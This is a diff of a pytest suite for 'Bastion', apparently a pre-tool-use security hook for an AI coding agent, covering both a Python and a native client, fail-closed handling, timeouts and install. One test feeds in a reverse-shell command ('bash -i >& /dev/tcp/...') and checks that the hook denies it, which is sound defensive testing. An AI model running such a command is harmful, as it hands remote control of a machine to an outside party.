@@ -1,4 +1,7 @@
-"""The hook as the agent runs it: a new process per call, fail-closed on every bad path."""
+"""The hook as the agent runs it: a new process per call, fail-closed on every bad path.
+
+Every case runs against both clients (``hook_client``: the Python hook and the native one).
+"""
 
 from __future__ import annotations
 
@@ -27,9 +30,9 @@ PAYLOAD = {
 }
 
 
-def hook(home: Path, data: bytes, **env: str) -> subprocess.CompletedProcess[bytes]:
+def hook(client: Path, home: Path, data: bytes, **env: str) -> subprocess.CompletedProcess[bytes]:
     return subprocess.run(
-        [str(BIN / "bastion-hook"), "claude-code"],
+        [str(client), "claude-code"],
         input=data,
         capture_output=True,
         env={**os.environ, "BASTION_HOME": str(home), **env},
@@ -51,14 +54,14 @@ def running(home: Path) -> Iterator[Path]:
     )
 
 
-def test_allow_through_the_daemon(running: Path) -> None:
-    out = hook(running, json.dumps(PAYLOAD).encode())
+def test_allow_through_the_daemon(hook_client: Path, running: Path) -> None:
+    out = hook(hook_client, running, json.dumps(PAYLOAD).encode())
     assert out.returncode == 0 and out.stdout == b"" and out.stderr == b""
 
 
-def test_deny_through_the_daemon(running: Path) -> None:
+def test_deny_through_the_daemon(hook_client: Path, running: Path) -> None:
     data = dict(PAYLOAD, tool_input={"command": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"})
-    out = hook(running, json.dumps(data).encode())
+    out = hook(hook_client, running, json.dumps(data).encode())
     reply = json.loads(out.stdout)["hookSpecificOutput"]
     assert out.returncode == 0 and reply["permissionDecision"] == "deny"
     assert "Bastion blocked" in reply["permissionDecisionReason"]
@@ -73,28 +76,32 @@ def test_deny_through_the_daemon(running: Path) -> None:
         (b'{"hook_event_name": "PreToolUse"}', "no session_id"),
     ],
 )
-def test_bad_input_is_refused_with_a_message(running: Path, data: bytes, words: str) -> None:
-    out = hook(running, data)
+def test_bad_input_is_refused_with_a_message(
+    hook_client: Path, running: Path, data: bytes, words: str
+) -> None:
+    out = hook(hook_client, running, data)
     assert out.returncode == 2 and out.stdout == b""
     assert out.stderr.startswith(b"Bastion:") and words.encode() in out.stderr
     assert b"Traceback" not in out.stderr
 
 
-def test_fifty_megabyte_payload_is_refused_without_reaching_the_daemon(running: Path) -> None:
+def test_fifty_megabyte_payload_is_refused_without_reaching_the_daemon(
+    hook_client: Path, running: Path
+) -> None:
     big = dict(PAYLOAD, tool_input={"command": "echo " + "A" * (50 * 1024 * 1024)})
-    out = hook(running, json.dumps(big).encode())
+    out = hook(hook_client, running, json.dumps(big).encode())
     assert out.returncode == 2 and b"larger than" in out.stderr
 
 
-def test_without_a_daemon_the_hook_decides_and_starts_one(home: Path) -> None:
+def test_without_a_daemon_the_hook_decides_and_starts_one(hook_client: Path, home: Path) -> None:
     try:
-        out = hook(home, json.dumps(PAYLOAD).encode())
+        out = hook(hook_client, home, json.dumps(PAYLOAD).encode())
         assert out.returncode == 0, out.stderr
         deadline = time.monotonic() + 20
         while not (home / "daemon.sock").exists() and time.monotonic() < deadline:
             time.sleep(0.1)
         assert (home / "daemon.sock").exists()
-        again = hook(home, json.dumps(PAYLOAD).encode())
+        again = hook(hook_client, home, json.dumps(PAYLOAD).encode())
         assert again.returncode == 0
     finally:
         subprocess.run(
@@ -102,22 +109,24 @@ def test_without_a_daemon_the_hook_decides_and_starts_one(home: Path) -> None:
         )
 
 
-def test_no_decision_at_all_fails_closed_and_names_the_fix(tmp_path: Path) -> None:
+def test_no_decision_at_all_fails_closed_and_names_the_fix(
+    hook_client: Path, tmp_path: Path
+) -> None:
     not_a_dir = tmp_path / "file"
     not_a_dir.write_text("x")
-    out = hook(not_a_dir, json.dumps(PAYLOAD).encode())
+    out = hook(hook_client, not_a_dir, json.dumps(PAYLOAD).encode())
     assert out.returncode == 2 and b"denied to be safe" in out.stderr
     assert b"bastion up" in out.stderr
 
 
-def test_operator_can_choose_fail_open(tmp_path: Path) -> None:
+def test_operator_can_choose_fail_open(hook_client: Path, tmp_path: Path) -> None:
     not_a_dir = tmp_path / "file"
     not_a_dir.write_text("x")
-    out = hook(not_a_dir, json.dumps(PAYLOAD).encode(), BASTION_ON_UNAVAILABLE="allow")
+    out = hook(hook_client, not_a_dir, json.dumps(PAYLOAD).encode(), BASTION_ON_UNAVAILABLE="allow")
     assert out.returncode == 0 and b"allowed by BASTION_ON_UNAVAILABLE" in out.stderr
 
 
-def test_a_daemon_that_never_answers_times_out_closed(home: Path) -> None:
+def test_a_daemon_that_never_answers_times_out_closed(hook_client: Path, home: Path) -> None:
     server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
     server.bind(str(home / "daemon.sock"))
     server.listen(1)
@@ -130,7 +139,7 @@ def test_a_daemon_that_never_answers_times_out_closed(home: Path) -> None:
     thread = threading.Thread(target=accept, daemon=True)
     thread.start()
     try:
-        out = hook(home, json.dumps(PAYLOAD).encode(), BASTION_HOOK_TIMEOUT="1")
+        out = hook(hook_client, home, json.dumps(PAYLOAD).encode(), BASTION_HOOK_TIMEOUT="1")
         assert out.returncode == 2 and b"did not answer within 1 s" in out.stderr
     finally:
         for conn in held:
@@ -167,3 +176,69 @@ def test_up_with_console_serves_and_down_stops_both(home: Path) -> None:
             timeout=60,
         )
     assert "console stopped" in down.stdout and "daemon stopped" in down.stdout
+
+
+@pytest.mark.parametrize(
+    ("reply", "words"),
+    [
+        (b"", b"closed the connection without a reply"),
+        (b"allow\n", b"could not be read"),
+        (b"0 -5 0\n", b"could not be read"),
+        (b"0 100 0\nshort", b"cut short"),
+    ],
+)
+def test_a_reply_that_is_not_the_protocol_fails_closed(
+    hook_client: Path, home: Path, reply: bytes, words: bytes
+) -> None:
+    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    server.bind(str(home / "daemon.sock"))
+    server.listen(1)
+
+    def answer() -> None:
+        conn, _ = server.accept()
+        request = b""
+        while b"\n" not in request or len(request.partition(b"\n")[2]) < len(body):
+            request += conn.recv(65536)  # the whole request: closing early would reset it
+        conn.sendall(reply)
+        conn.close()
+
+    body = json.dumps(PAYLOAD).encode()
+    thread = threading.Thread(target=answer, daemon=True)
+    thread.start()
+    try:
+        out = hook(hook_client, home, body, BASTION_ON_UNAVAILABLE="")
+    finally:
+        server.close()
+    assert out.returncode == 2 and out.stdout == b"", out
+    assert words in out.stderr and b"denied to be safe" in out.stderr, out.stderr
+
+
+def test_install_puts_the_native_hook_behind_the_shim_and_records_its_origin(
+    native_hook: Path, tmp_path: Path
+) -> None:
+    from bastion.cli import doctor
+    from bastion.cli import install as inst
+    from bastion.hook import native_build
+
+    home = tmp_path / "h"
+    settings = tmp_path / "p" / ".claude" / "settings.json"
+    inst.install(settings, home)
+    shim = inst.shim_path(home)
+    assert shim.resolve() == home / "bin" / native_build.NATIVE_NAME
+    assert shim.resolve().read_bytes()[:4] == b"\x7fELF"
+    record = json.loads(native_build.provenance_path(shim.resolve()).read_text())
+    assert record["python_hook"] == str(inst.hook_target())
+    assert record["compiler"] and record["source_sha256"]
+    command = json.loads(settings.read_text())["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
+    assert doctor.command_problems(command) == []
+
+
+def test_without_a_compiler_install_keeps_the_python_hook(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from bastion.cli import install as inst
+
+    monkeypatch.setenv("CC", str(tmp_path / "no-such-cc"))
+    home = tmp_path / "h"
+    inst.install(tmp_path / "p" / ".claude" / "settings.json", home)
+    assert inst.shim_path(home).resolve() == inst.hook_target().resolve()
